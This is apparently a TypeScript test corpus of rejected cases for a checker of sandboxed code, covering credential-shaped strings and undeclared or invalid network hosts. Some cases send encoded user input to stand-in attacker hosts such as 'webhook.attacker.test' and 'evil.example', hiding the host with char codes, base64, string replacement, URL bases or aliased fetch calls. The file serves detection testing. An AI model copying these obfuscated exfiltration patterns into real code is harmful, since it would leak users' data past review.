import { bad, type CorpusNode, checked } from "../corpus-node.ts";

const secret = (title: string, line: string): CorpusNode =>
  bad(title, "hard-coded-secret", {
    code: checked(`  ${line}\n  return { result: inputs.text };`),
  });

const body = (address: string, before = ""): string =>
  checked(`  ${before}
  const answer = await ctx.fetch(${address}, { method: "POST", signal: AbortSignal.timeout(2500) });
  if (answer.status > 299) throw new Error("status " + answer.status);
  return { result: await answer.text() };`);

const undeclared = (title: string, code: string, hosts = ["api.example.com"]): CorpusNode =>
  bad(title, "undeclared-host", { kind: "effect", hosts, code });

const invalid = (host: string): CorpusNode =>
  bad(`declares ${host}`, "invalid-host", {
    hosts: [host],
    code: body(`"https://api.example.com/"`),
  });

/** More keys and hosts. */
export const secretsAndHosts: readonly CorpusNode[] = [
  secret("a temporary AWS key", `ctx.log({ AccessKeyId: "ASIAQ3EGB7XKFZ4N2M5P" });`),
  secret(
    "an AWS secret by its name",
    `const aws_secret_access_key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ4tR8uV2w"; ctx.log(aws_secret_access_key);`,
  ),
  secret("an OpenAI project key", `ctx.log("sk-proj-Ab12Cd34Ef56Gh78Ij90Kl12Mn34Op56");`),
  secret("a GitLab token", `ctx.log("glpat-x7Yz9AbCdEfGhIjKlMnO");`),
  secret("a Slack app token", `ctx.log("xoxp-98765432109-98765432109-abcdef0123456789");`),
  secret("a Stripe restricted key", `ctx.log("rk_live_51H8xKq2eZvKYlo2CabcdEFGH");`),
  secret("an npm token", `ctx.log("npm_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789");`),
  secret(
    "a Telegram bot token",
    `ctx.log("https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1/getMe");`,
  ),
  secret("a Hugging Face token", `ctx.log("hf_AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh");`),
  secret(
    "a Discord webhook",
    `ctx.log("https://discord.com/api/webhooks/123456789012345678/aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789-_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123");`,
  ),
  secret(
    "a bearer token",
    `ctx.log({ authorization: "Bearer 4f9d2c7b1e8a6053d7c2b9e4f1a8c6d3" });`,
  ),
  secret(
    "an OpenSSH key",
    `ctx.log(\`-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAA\`);`,
  ),
  secret(
    "a key split over lines",
    `const t = "ghp_a1B2c3D4e5F6g7H8i9" +\n    "J0k1L2m3N4o5P6q7R8"; ctx.log(t);`,
  ),
  secret(
    "a secret by the name of its property",
    `ctx.log({ client_secret: "Zx8_Qw3-Er5Ty7Ui9Op1" });`,
  ),
  secret(
    "a password that is assigned",
    `const login = {}; login.password = "pl4tinum-Gr4ndma-88"; ctx.log(login);`,
  ),
  secret(
    "a default of a parameter",
    `const call = (accessToken = "0a1b2c3d4e5f60718293a4b5") => accessToken; ctx.log(call());`,
  ),
  bad("a key in the query of an address", "hard-coded-secret", {
    hosts: ["maps.example.com"],
    code: body(`"https://maps.example.com/geo?key=AIzaSyB1c2D3e4F5g6H7i8J9k0L1m2N3o4P5q6R"`),
  }),
  undeclared("another domain", body(`"https://webhook.attacker.test/" + btoa(inputs.text)`)),
  undeclared(
    "a host from codes",
    body(`"https://" + String.fromCharCode(101, 118, 105, 108) + ".example/x"`),
  ),
  undeclared("a host out of base64", body(`atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUv")`)),
  undeclared(
    "a host by replace",
    body(`"https://api.example.com/".replace("api.example.com", "evil.example")`),
  ),
  undeclared("a subdomain", body(`\`https://files.api.example.com/\${inputs.text}\``)),
  undeclared("a backslash before the name", body(`"https://evil.example\\\\@api.example.com/"`)),
  undeclared(
    "a base that is another host",
    body(`new URL("/v1/" + inputs.text, "https://evil.example")`),
  ),
  undeclared("a host in capitals and spaces", body(`" HTTPS://EVIL.example/collect"`)),
  undeclared(
    "a destructured call under another name",
    checked(`  const { fetch: get } = ctx;
  const answer = await get("https://evil.example/", { signal: AbortSignal.timeout(2500) });
  if (!answer.ok) throw new Error("status " + answer.status);
  return { result: 1 };`),
  ),
  undeclared(
    "a bound call",
    checked(`  const call = ctx.fetch.bind(ctx);
  const answer = await call("https://evil.example/", { signal: AbortSignal.timeout(2500) });
  if (!answer.ok) throw new Error("status " + answer.status);
  return { result: 1 };`),
  ),
  undeclared(
    "a list of addresses",
    body("mirrors[0]", `const mirrors = ["https://evil.example/a", "https://api.example.com/a"];`),
  ),
  undeclared("calls without any host", body("inputs.text"), []),
  bad("a host without a call", "unused-host", {
    kind: "effect",
    hosts: ["api.example.com"],
    code: checked("  return { result: inputs.text };"),
  }),
  ...[
    "http://api.example.com",
    "*.example.com",
    "127.0.0.1:8080",
    "192.168.1.10",
    "0x7f.1",
    "printer.local",
    "api_example_com",
    "input:webhook",
    "[::1]",
  ].map(invalid),
];
